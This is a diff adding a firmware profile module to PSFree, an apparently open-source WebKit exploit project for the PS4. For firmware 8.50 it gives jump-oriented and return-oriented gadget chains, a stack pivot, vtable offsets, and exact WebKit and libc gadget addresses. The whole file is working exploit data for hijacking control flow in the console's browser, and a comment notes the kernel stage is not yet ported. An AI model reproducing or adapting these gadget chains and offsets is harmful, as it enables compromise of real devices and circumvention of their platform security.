@@ -0,0 +1,128 @@
+/* Copyright (C) 2023 anonymous
+
+This file is part of PSFree.
+
+PSFree is free software: you can redistribute it and/or modify
+it under the terms of the GNU Affero General Public License as
+published by the Free Software Foundation, either version 3 of the
+License, or (at your option) any later version.
+
+PSFree is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU Affero General Public License for more details.
+
+You should have received a copy of the GNU Affero General Public License
+along with this program.  If not, see <https://www.gnu.org/licenses/>.  */
+
+// firmware profile for PS4 8.50, see module/profiles.mjs
+//
+// by janisslsm (John) from ps4-dev discord
+
+import { ta_jop1, jop3, jop5 } from '../rop_gadgets.mjs';
+
+const ta_jop2 = `
+pop rsi
+jmp qword ptr [rax + 0x60]
+`;
+const ta_jop3 = `
+mov rdi, qword ptr [rax + 8]
+mov rax, qword ptr [rdi]
+jmp qword ptr [rax + 0x68]
+`;
+const jop2 = `
+push rbp
+mov rbp, rsp
+mov rax, qword ptr [rdi]
+call qword ptr [rax + 0x30]
+`;
+const jop4 = `
+push rdx
+jmp qword ptr [rax]
+`;
+const pivot = 'pop rdi; jmp qword ptr [rax + 0x1d]';
+
+export const profile = {
+    id : 'ps4_8_50',
+    name : 'PS4 8.50',
+
+    jmp_buf_size : 0xc8,
+
+    jop : {
+        ta_jop1,
+        ta_jop2,
+        ta_jop3,
+        jop2,
+        jop3,
+        jop4,
+        jop5,
+        pivot,
+    },
+    vtable : {
+        scroll_left : 0x1c8,
+        ta_jop2 : 0xb8,
+        ta_jop3 : 0x60,
+    },
+    rax_ptrs : {
+        jop2 : 0x68,
+        jop3 : 0x30,
+        jop4 : 0x10,
+        jop5 : 0,
+        rsp : 0x18,
+    },
+    pivot_slot : 0x1d,
+
+    webkit_gadget_offsets : new Map(Object.entries({
+        'pop rax; ret' : 0x000000000001ac7b,
+        'pop rbx; ret' : 0x000000000000c46d,
+        'pop rcx; ret' : 0x000000000001ac5f,
+        'pop rdx; ret' : 0x0000000000282ea2,
+
+        'pop rbp; ret' : 0x00000000000000b6,
+        'pop rsi; ret' : 0x0000000000050878,
+        'pop rdi; ret' : 0x0000000000091afa,
+        'pop rsp; ret' : 0x0000000000073c2b,
+
+        'pop r8; ret' : 0x000000000003b4b3,
+        'pop r9; ret' : 0x00000000010f372f,
+        'pop r10; ret' : 0x0000000000b1a721,
+        'pop r11; ret' : 0x0000000000eaba69,
+
+        'pop r12; ret' : 0x00000000004abe58,
+        'pop r13; ret' : 0x00000000019a0d8b,
+        'pop r14; ret' : 0x0000000000050877,
+        'pop r15; ret' : 0x0000000000091af9,
+
+        'ret' : 0x0000000000000032,
+        'leave; ret' : 0x000000000001ba53,
+
+        'neg rax; and rax, rcx; ret' : 0x00000000014c5ab4,
+        'adc esi, esi; ret' : 0x0000000000bcfa29,
+        'add rax, rdx; ret' : 0x0000000000d26d4c,
+        'push rsp; jmp qword ptr [rax]' : 0x0000000001e3cb0a,
+        'add rcx, rsi; and rdx, rcx; or rax, rdx; ret' : 0x00000000015a74c6,
+        [pivot] : 0x00000000021f4f09,
+
+        'mov qword ptr [rdi], rsi; ret' : 0x000000000018f010,
+        'mov rax, qword ptr [rax]; ret' : 0x000000000003734c,
+        'mov qword ptr [rdi], rax; ret' : 0x000000000001433b,
+        'mov dword ptr [rdi], eax; ret' : 0x0000000000008e7f,
+        'mov rdx, rcx; ret' : 0x0000000000f2c94d,
+
+        [jop2] : 0x00000000011c9df0,
+        [jop3] : 0x0000000000481769,
+        [jop4] : 0x00000000021f10fd,
+
+        [ta_jop1] : 0x0000000000c42d34,
+        [ta_jop2] : 0x00000000021f930e,
+        [ta_jop3] : 0x0000000001236532,
+    })),
+    libc_gadget_offsets : new Map(Object.entries({
+        'neg rax; ret' : 0x00000000000d3df3,
+        'mov rdx, rax; xor eax, eax; shl rdx, cl; ret' : 0x00000000000cef39,
+        'mov qword ptr [rsi], rcx; ret' : 0x00000000000cf8e2,
+    })),
+
+    // the kernel exploit is not ported to this firmware yet
+    kernel : null,
+};